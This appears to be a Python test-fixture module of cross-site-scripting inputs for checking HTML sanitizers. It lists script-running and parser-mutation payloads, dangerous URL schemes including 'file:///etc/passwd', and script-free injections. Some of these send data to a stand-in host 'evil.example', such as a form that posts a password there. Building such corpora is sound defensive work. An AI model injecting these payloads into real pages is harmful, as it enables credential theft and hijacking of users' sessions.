"""HTML that runs a script, frames, forms or styles a page in one browser or another. Ours: no list of anybody's.

Each calls `owned()` where it can, so that a browser tells whether it ran.
"""

from typing import Final

_CALL: Final = "owned()"

RUNNING: Final = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}></svg>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={_CALL} attributeName=x to=y></svg>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<body onload={_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f'<iframe src="javascript:parent.{_CALL}"></iframe>',
    f"<video><source onerror={_CALL}></video>",
    f"<video src=x onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_CALL}>x</b>",
    f"<img src='x' onerror='{_CALL}'//",
    f"<IMG SRC=x OnErRoR={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img\nsrc=x\tonerror\n=\n{_CALL}>",
    "<img src=x onerror=&#111;wned()>",
    "<img src=x onerror=&#x6f;wned()>",
    '<img src=x onerror="&#0000111wned()">',
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={_CALL}></desc></svg>",
    f"<svg><title><img src=x onerror={_CALL}></title></svg>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_CALL}></annotation-xml></math>",
    f"<table><img src=x onerror={_CALL}></table>",
    f"<select><img src=x onerror={_CALL}></select><img src=x onerror={_CALL}>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<!--!><img src=x onerror={_CALL}>",
    f"<!-- --!><img src=x onerror={_CALL}>",
    f"<![CDATA[><img src=x onerror={_CALL}>]]>",
    f"<?xml ><img src=x onerror={_CALL}>",
    f"</p><img src=x onerror={_CALL}>",
    f"</br><img src=x onerror={_CALL}>",
    f"<a><a><img src=x onerror={_CALL}>",
    f"<xss><img src=x onerror={_CALL}></xss>",
    f"<custom-element><img src=x onerror={_CALL}></custom-element>",
    f"<b><b><b><b><img src=x onerror={_CALL}>",
    f"<object data=x onerror={_CALL}></object>",
    f"<link rel=stylesheet href=x: onerror={_CALL}>",
    f'<p title="<img src=x onerror={_CALL}>">x</p><img src=x onerror={_CALL}>',
    f"<form><button autofocus onfocus={_CALL}>x</button></form>",
    f"<div contenteditable autofocus onfocus={_CALL}>x</div>",
    f"<textarea autofocus onfocus={_CALL}></textarea>",
    f"<a href=# autofocus onfocus={_CALL}>x</a>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<svg><use onload={_CALL}></use></svg><svg/onload={_CALL}>",
    f"<picture><source srcset=x><img onerror={_CALL} src=x></picture>",
    f"<img srcset=x onerror={_CALL}>",
    f'<embed src="javascript:{_CALL}"><img src=x onerror={_CALL}>',
)
"""Runs as soon as it stands in a page."""

MUTATING: Final = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_CALL}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={_CALL}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_CALL}>",
    f'<svg><p><style><g title="</style><img src=x onerror={_CALL}>">',
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>"></noscript>',
    f'<noembed><p title="</noembed><img src=x onerror={_CALL}>">',
    f'<noframes><p title="</noframes><img src=x onerror={_CALL}>">',
    f'<xmp><p title="</xmp><img src=x onerror={_CALL}>">',
    f'<title><p title="</title><img src=x onerror={_CALL}>">',
    f'<textarea><p title="</textarea><img src=x onerror={_CALL}>">',
    f'<iframe><p title="</iframe><img src=x onerror={_CALL}>">',
    f"<plaintext><img src=x onerror={_CALL}>",
    f"<template><img src=x onerror={_CALL}></template>",
    f"<template shadowrootmode=open><img src=x onerror={_CALL}></template>",
    f"<math><style><img src=x onerror={_CALL}></style></math>",
    f"<svg><style>&lt;img src=x onerror={_CALL}&gt;</style></svg>",
    f'<style><img src="</style><img src=x onerror={_CALL}//">',
    f"<b title='`'>`<img src=x onerror={_CALL}>`",
    f'<p title="&quot;><img src=x onerror={_CALL}>">x</p>',
    f"<p title='&#39;><img src=x onerror={_CALL}>'>x</p>",
    f"&lt;img src=x onerror={_CALL}&gt;",
    f"&amp;lt;img src=x onerror={_CALL}&amp;gt;",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<b>x</b\n><i\n>{_CALL}</i\n>",
    f"<table><tr><td><svg><style></table><img src=x onerror={_CALL}>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={_CALL}>">',
    f"<mglyph><malignmark><img src=x onerror={_CALL}>",
    f'<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={_CALL}>">',
)
"""Is harmless to one parser and runs after another, or after being parsed twice."""

LEADING: Final = (
    "javascript:owned()", "JaVaScRiPt:owned()", "java\nscript:owned()", "java\tscript:owned()",
    "\x01javascript:owned()", " javascript:owned()",
    "javascript&colon;owned()", "&#106;avascript:owned()", "&#x6A;avascript&#x3a;owned()",
    "&#0000106avascript:owned()",
    "java&Tab;script:owned()", "java&NewLine;script:owned()", "javascript://%0aowned()", "vbscript:owned()",
    "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+", "blob:x", "file:///etc/passwd", "//evil.example/",
    "/logout", "\\\\evil.example\\x",
    "view-source:javascript:owned()", "feed:javascript:owned()", "jar:javascript:owned()", "intent://x#Intent;end",
)  # fmt: skip
"""Where no link of a stranger leads."""

BORROWING: Final = (
    "<p style='position:fixed;inset:0'>x</p>", "<style>*{display:none}</style>x",
    "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>", "<p id=login name=x>x</p>",
    "<p class='fixed-top'>x</p>", "<img src=//evil.example/who>", "<video src=//evil.example></video>",
    "<object data=//evil.example></object>",
    "<button formaction=//evil.example>x</button>", "<p background=//evil.example>x</p>",
    "<a href=https://x.example ping=//evil.example target=_blank>x</a>",
    "<p data-action=delete x-on:click=x @click=x hx-get=/x>x</p>", "<input value=x>", "<dialog open>x</dialog>",
    "<p popover>x</p>",
)  # fmt: skip
"""No script, but the page's style, its forms, its names, or who reads it."""
